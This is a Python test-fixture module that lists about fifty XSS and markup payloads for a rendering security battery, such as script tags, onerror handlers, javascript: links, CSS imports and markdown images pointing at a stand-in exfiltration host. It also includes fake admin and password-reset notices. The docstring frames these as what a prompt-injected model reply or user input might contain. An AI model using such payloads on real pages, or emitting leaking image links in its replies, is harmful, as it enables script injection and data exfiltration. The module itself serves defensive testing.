"""Markup payloads for the rendering battery: what a prompt-injected reply, a user or an import
could put into a message, a title, a comment or a model name. Each one, shown on a page, must run no
script and make the browser fetch nothing from outside the app."""

from __future__ import annotations

# Where a leak would go: an outside host no test server listens on (requests to it are recorded).
OUTSIDE = "https://exfil.example.net"

_TEMPLATES = [
    "![x]({o}/img.png?q=secret)",
    "![]({o}/a.png)",
    '![alt]({o}/b.png "title")',
    "![ref][r]\n\n[r]: {o}/ref.png",
    "text ![inline]({o}/c.png) text",
    "[![nested]({o}/d.png)]({o}/link)",
    '<img src="{o}/e.png">',
    '<img src=x onerror="window.__xss=1">',
    "<script>window.__xss=1</script>",
    '<svg onload="window.__xss=1"></svg>',
    '<iframe src="{o}/frame"></iframe>',
    '<a href="javascript:window.__xss=1">click</a>',
    "[click](javascript:window.__xss=1)",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    '<object data="{o}/obj"></object>',
    '<embed src="{o}/embed">',
    '<video src="{o}/v.mp4" autoplay></video>',
    '<audio src="{o}/a.mp3" autoplay></audio>',
    '<link rel="stylesheet" href="{o}/s.css">',
    "<style>@import url({o}/i.css);</style>",
    '<div style="background:url({o}/bg.png)">bg</div>',
    '<body background="{o}/body.png">',
    '<input type="image" src="{o}/input.png">',
    '<math><mi xlink:href="javascript:window.__xss=1">m</mi></math>',
    '<details open ontoggle="window.__xss=1">d</details>',
    "# Fake heading: your session expired",
    "> Admin notice: visit {o}/login",
    "[Reset your password]({o}/phish)",
    "<{o}/autolink>",
    "{o}/bare-url.png",
    ":red[Security alert] :material/warning:",
    "$\\href{{javascript:window.__xss=1}}{{x}}$",
    "$$\\includegraphics{{{o}/tex.png}}$$",
    "`![in code]({o}/code.png)`",
    "```\n![in a fence]({o}/fence.png)\n```",
    "``![mismatched]({o}/mm.png)`",
    "\\`![escaped tick]({o}/et.png)`",
    "![a]({o}/1.png)![b]({o}/2.png)",
    "!\n[split]({o}/split.png)",
    "*![emph]({o}/emph.png)*",
    "| t |\n|---|\n| ![cell]({o}/cell.png) |",
    "- ![list]({o}/list.png)",
    "1. <img src={o}/ol.png>",
    "<IMG SRC={o}/upper.png>",
    "<img\nsrc={o}/newline.png>",
    "&lt;img src={o}/entity.png&gt;",
    "![x](<{o}/angle.png>)",
    "![x]({o}/paren.png) trailing **bold**",
    "\u202eevil\u202c right-to-left override",
    "zero\u200bwidth\u200d joiner",
    '<base href="{o}/">',
    '<meta http-equiv="refresh" content="0;url={o}/meta">',
    '<form action="{o}/form"><button>go</button></form>',
    '<a href="{o}/ping" ping="{o}/ping2">ping</a>',
]

PAYLOADS = [template.format(o=OUTSIDE) for template in _TEMPLATES]
assert len(PAYLOADS) >= 50
